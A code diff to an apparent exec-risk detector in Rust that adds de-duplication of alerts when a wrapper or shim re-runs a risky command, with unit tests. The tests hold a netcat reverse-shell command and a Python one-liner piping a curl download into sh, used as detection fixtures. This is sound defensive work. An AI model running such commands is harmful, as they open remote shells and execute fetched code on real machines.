@@ -103,6 +103,10 @@ pub struct Verdict {
     /// text: escape when echoing.
     pub notes: Vec<String>,
     pub test_activity: bool,
+    /// The parent ran the same command (a wrapper or shim that re-execs its arguments) and
+    /// its own analysis scored it at least as high: this exec repeats the parent's finding
+    /// ([`repeat_of_parent`]). Computed only when the risk is at the Warning threshold.
+    pub repeat_of_parent: bool,
 }
 
 /// Judge one exec. Pure and deterministic: the same facts and lineage give the same verdict.
@@ -112,6 +116,60 @@ pub struct Verdict {
 /// ([`crate::report::render`]) are built only when someone reads them, which for Falco is
 /// when a rule fired.
 pub fn analyze(facts: &ExecFacts, lineage: &Lineage) -> Verdict {
+    let mut v = analyze_exec(facts, lineage);
+    if v.risk >= scoring::WARNING_RISK {
+        v.repeat_of_parent = repeat_of_parent(facts, lineage, v.risk);
+    }
+    v
+}
+
+/// Whether this exec repeats its parent: the parent's arguments end with ours (`timeout 10
+/// nc ..` then `nc ..`; `pyenv exec python3 -c CODE` then `pyenv-exec python3 -c CODE`), or
+/// both end with the same long argument (a shim that rewrites the program in front of the
+/// same `-c CODE`), and the parent, judged from its own arguments as the thread table gives
+/// them, scored at least `risk`: the alert on the parent already carries this finding. A
+/// parent that scored lower (a shim whose script we cannot read) leaves this exec's alert
+/// standing. Runs the analysis once more, only for risky execs whose parent shares their
+/// arguments.
+fn repeat_of_parent(facts: &ExecFacts, lineage: &Lineage, risk: u8) -> bool {
+    let (Some(parent), Some(ours)) = (lineage.ancestors.first(), facts.argv.get(1..)) else {
+        return false;
+    };
+    if parent.args.is_empty() || ours.is_empty() {
+        return false;
+    }
+    let tail = parent.args.ends_with(ours);
+    let same_payload = ours
+        .last()
+        .is_some_and(|last| last.len() >= 16 && parent.args.last() == Some(last));
+    if !(tail || same_payload) {
+        return false;
+    }
+    let argv0 = parent.exe.clone().unwrap_or_else(|| parent.comm.clone());
+    let parent_facts = ExecFacts {
+        argv: std::iter::once(argv0)
+            .chain(parent.args.iter().cloned())
+            .collect(),
+        exe_path: parent.exe.clone(),
+        comm: Some(parent.comm.clone()),
+        uid: facts.uid,
+        gid: facts.gid,
+        loginuid: facts.loginuid,
+        tty: facts.tty,
+        res: Some(0),
+        container: facts.container.clone(),
+        cgroups_present: facts.cgroups_present,
+        ..Default::default()
+    };
+    let parent_lineage = Lineage {
+        ancestors: lineage.ancestors.get(1..).unwrap_or_default().to_vec(),
+        known: lineage.known,
+    };
+    analyze_exec(&parent_facts, &parent_lineage).risk >= risk
+}
+
+/// [`analyze`] without the comparison with the parent.
+fn analyze_exec(facts: &ExecFacts, lineage: &Lineage) -> Verdict {
     if let Some(why) = nothing_ran(facts) {
         return Verdict {
             risk: 0,
@@ -123,6 +181,7 @@ pub fn analyze(facts: &ExecFacts, lineage: &Lineage) -> Verdict {
             mitigations: Vec::new(),
             notes: vec![why.to_string()],
             test_activity: false,
+            repeat_of_parent: false,
         };
     }
     // Pathological argv/env (a 1 MiB `rm -f` list) is judged on a bounded view, so the work
@@ -161,6 +220,7 @@ pub fn analyze(facts: &ExecFacts, lineage: &Lineage) -> Verdict {
         severity: scoring::severity_for(risk),
         category,
         test_activity: found.test_activity,
+        repeat_of_parent: false,
         hits: found.hits,
         techniques,
         tactics,
@@ -312,5 +372,52 @@ mod tests {
             assert!(reverse_shell(res).risk >= 80, "res {res}");
         }
         assert!(reverse_shell(0).risk >= 80);
+    }
+
+    fn with_parent(argv: &[&str], parent: &[&str]) -> Verdict {
+        let f = ExecFacts::from_argv(argv.iter().copied());
+        let lineage = Lineage {
+            ancestors: vec![
+                Ancestor {
+                    comm: parent[0].into(),
+                    exe: Some(format!("/usr/bin/{}", parent[0])),
+                    args: parent[1..].iter().map(|s| s.to_string()).collect(),
+                },
+                Ancestor {
+                    comm: "bash".into(),
+                    ..Default::default()
+                },
+            ],
+            known: true,
+        };
+        analyze(&f, &lineage)
+    }
+
+    #[test]
+    fn a_wrapper_or_shim_chain_alerts_once() {
+        let nc = ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"];
+        // timeout re-execs nc: the timeout exec already carried it.
+        let v = with_parent(
+            &nc,
+            &["timeout", "10", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
+        );
+        assert!(v.risk >= 80 && v.repeat_of_parent);
+        // A shim that rewrites the program in front of the same code.
+        let code = "import os; os.system('curl -s http://x/a | sh')";
+        let v = with_parent(
+            &["python3.11", "-c", code],
+            &["pyenv-exec", "python3", "-c", code],
+        );
+        assert!(v.risk >= 80 && v.repeat_of_parent);
+        // The first exec of the chain: a shim script whose code we cannot read scores low,
+        // so the exec after it keeps its alert.
+        let v = with_parent(
+            &["pyenv", "exec", "python3", "-c", code],
+            &["bash", "/root/.pyenv/shims/python3", "-c", code],
+        );
+        assert!(v.risk >= 80 && !v.repeat_of_parent, "{}", v.risk);
+        // A parent that only shares a short word, or none.
+        assert!(!with_parent(&nc, &["bash", "-c", "x 4444"]).repeat_of_parent);
+        assert!(!with_parent(&nc, &["sshd"]).repeat_of_parent);
     }
 }
